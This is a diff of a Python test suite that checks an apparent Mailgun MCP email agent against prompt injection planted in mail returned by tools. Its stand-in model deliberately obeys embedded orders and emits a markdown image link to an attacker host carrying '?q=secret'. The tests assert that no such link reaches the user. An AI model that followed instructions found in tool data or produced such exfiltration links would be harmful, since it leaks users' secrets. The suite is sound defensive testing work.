@@ -5,7 +5,6 @@ The model of this suite obeys every order that it reads. Twenty texts, each in s
 
 import json
 import re
-from collections.abc import Iterator
 from typing import Any
 
 import httpx
@@ -13,6 +12,7 @@ import pytest
 
 from mailgun_mcp.agent.runner import Runner
 from tests.support.chats import ANN, DOMAIN, Chat, kinds, last, model, said
+from tests.support.json_values import texts
 from tests.support.recorder import Recorder, recorded_services
 
 pytestmark = pytest.mark.anyio
@@ -82,25 +82,13 @@ class Hostile(Recorder):
         return httpx.Response(200, json={"items": [item], "total_count": 1, **mail}, request=request)
 
 
-def texts_in(value: Any) -> Iterator[str]:
-    if isinstance(value, str):
-        yield value
-    elif isinstance(value, dict):
-        for name, item in value.items():
-            yield name
-            yield from texts_in(item)
-    elif isinstance(value, list):
-        for item in value:
-            yield from texts_in(item)
-
-
 def obeys(messages: list[Any], _: Any) -> list[Any]:
     """Do what the newest results say, and repeat their text; else say that it is done."""
     done: list[Any] = []
     for part in messages[-1].parts:
         content = str(getattr(part, "content", ""))
         try:
-            read = list(texts_in(json.loads(content)))
+            read = list(texts(json.loads(content)))
         except ValueError:
             read = [content]
         for text in read:
@@ -109,8 +97,8 @@ def obeys(messages: list[Any], _: Any) -> list[Any]:
                     done.append((found[1], json.loads(found[2])))
                 except ValueError:
                     continue
-    texts = list(done[:1])
-    return [f"As told: ![x](https://{EVIL}/?q=secret) see https://{EVIL}/a ", *texts] if texts else ["Done."]
+    calls = list(done[:1])
+    return [f"As told: ![x](https://{EVIL}/?q=secret) see https://{EVIL}/a ", *calls] if calls else ["Done."]
 
 
 async def attacked(text: str, tool: str, arguments: dict[str, Any]) -> bool:
@@ -125,7 +113,7 @@ async def attacked(text: str, tool: str, arguments: dict[str, Any]) -> bool:
         assert last(events, "ended")["outcome"] in ("waiting", "done", "stopped")
         assert "![" not in said(events)
         for event in events:
-            for shown in texts_in(event.body.get("text", "")), texts_in(event.body.get("form", "")):
+            for shown in texts(event.body.get("text", "")), texts(event.body.get("form", "")):
                 assert f"https://{EVIL}" not in "".join(shown), event
         assert (await chat.runner.get(ANN, "c")).title == "what is there?"
         return any(event.kind == "tool_started" and event.body["tool"] in HARMFUL for event in events)
